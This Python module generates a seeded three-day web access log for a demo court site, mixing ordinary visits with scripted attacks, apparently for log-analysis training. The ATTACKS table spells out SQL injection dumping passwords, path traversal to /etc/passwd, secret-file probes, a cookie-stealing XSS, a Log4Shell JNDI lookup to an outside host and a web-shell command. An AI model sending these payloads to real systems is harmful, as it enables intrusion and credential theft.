"""Three days of visits to the demo court in the combined log format, attacks among them; the same each time.

All addresses are of the ranges kept for documentation (RFC 5737), so that nobody is accused.
"""

from __future__ import annotations

import random
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from typing import NamedTuple

SEED = 7
VISITS = 420
SPAN = timedelta(days=3)
WIB = timezone(timedelta(hours=7))

BROWSERS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 14) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
)
CRAWLER = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
PAGES = (
    ("/", 5120),
    ("/profil.html", 2210),
    ("/prosedur.html", 2380),
    ("/informasi.html", 2144),
    ("/pengumuman.html", 2690),
    ("/berita/rapat-evaluasi-layanan.html", 2310),
    ("/berita/sosialisasi-e-court.html", 2295),
    ("/uploads/standar-pelayanan.txt", 96),
)


class Visit(NamedTuple):
    """One request; `request` is its method and address."""

    at: datetime
    address: str
    request: str
    status: int
    size: int
    referrer: str
    browser: str


@dataclass(frozen=True, slots=True)
class Attack:
    """A series of hostile requests from one address, `hours` before the demo's time, `pause` seconds apart."""

    address: str
    browser: str
    hours: float
    pause: int
    requests: Sequence[str]
    status: int = 404


ATTACKS = (
    Attack(
        "203.0.113.66",
        "sqlmap/1.8.4#stable (https://sqlmap.org)",
        19.0,
        2,
        (
            "GET /berita.php?id=1%27%20OR%20%271%27%3D%271",
            "GET /berita.php?id=-1%20UNION%20ALL%20SELECT%20NULL%2CCONCAT%28username%2C0x3a%2Cpassword%29--%20-",
            "GET /berita.php?id=1%20AND%20SLEEP%285%29",
            "GET /index.php?option=com_contenthistory&view=history&list%5Bselect%5D=1%20FROM%20mysql.user",
        ),
    ),
    Attack(
        "198.51.100.23",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        17.5,
        1,
        (
            "GET /../../../../etc/passwd",
            "GET /download.php?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd",
            "GET /.env",
            "GET /.git/config",
            "GET /backup.sql",
            "GET /phpmyadmin/index.php",
        ),
    ),
    Attack("192.0.2.146", "python-requests/2.31.0", 14.0, 3, ("POST /administrator/index.php",) * 60, 403),
    Attack(
        "203.0.113.141",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
        6.0,
        4,
        (
            "GET /cari?q=%3Cscript%3Ealert%28document.cookie%29%3C%2Fscript%3E",
            "GET /cari?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.141%2Fa%7D",
            "GET /uploads/shell.php?cmd=id%3Bcat%20/etc/passwd",
        ),
    ),
)


def render_access_log(now: datetime) -> str:
    """Given the time that the demo plays at, return the access log of the three days before it."""
    visits = sorted([*_ordinary(now), *_hostile(now)])
    return "".join(f"{_line(visit)}\n" for visit in visits)


def _ordinary(now: datetime) -> Iterator[Visit]:
    chance = random.Random(SEED)  # noqa: S311 - a fixed play, no secret
    for _ in range(VISITS):
        at = now - SPAN * chance.random() - timedelta(minutes=1)
        crawler = chance.random() < 0.12
        address = f"198.51.100.{chance.randint(200, 206)}" if crawler else f"192.0.2.{chance.randint(1, 120)}"
        browser = CRAWLER if crawler else chance.choice(BROWSERS)
        path, size = chance.choice(PAGES)
        status = 304 if chance.random() < 0.1 else 200
        yield Visit(at, address, f"GET {path}", status, 0 if status == 304 else size, "-", browser)
        if not crawler:
            later = at + timedelta(milliseconds=400)
            yield Visit(later, address, "GET /style.css", 200, 380, path, browser)


def _hostile(now: datetime) -> Iterator[Visit]:
    for attack in ATTACKS:
        for number, request in enumerate(attack.requests):
            at = now - timedelta(hours=attack.hours) + timedelta(seconds=attack.pause * number)
            yield Visit(at, attack.address, request, attack.status, 162, "-", attack.browser)


def _line(visit: Visit) -> str:
    stamp = visit.at.astimezone(WIB).strftime("%d/%b/%Y:%H:%M:%S %z")
    return (
        f"{visit.address} - - [{stamp}] "
        f'"{visit.request} HTTP/1.1" {visit.status} {visit.size} "{visit.referrer}" "{visit.browser}"'
    )
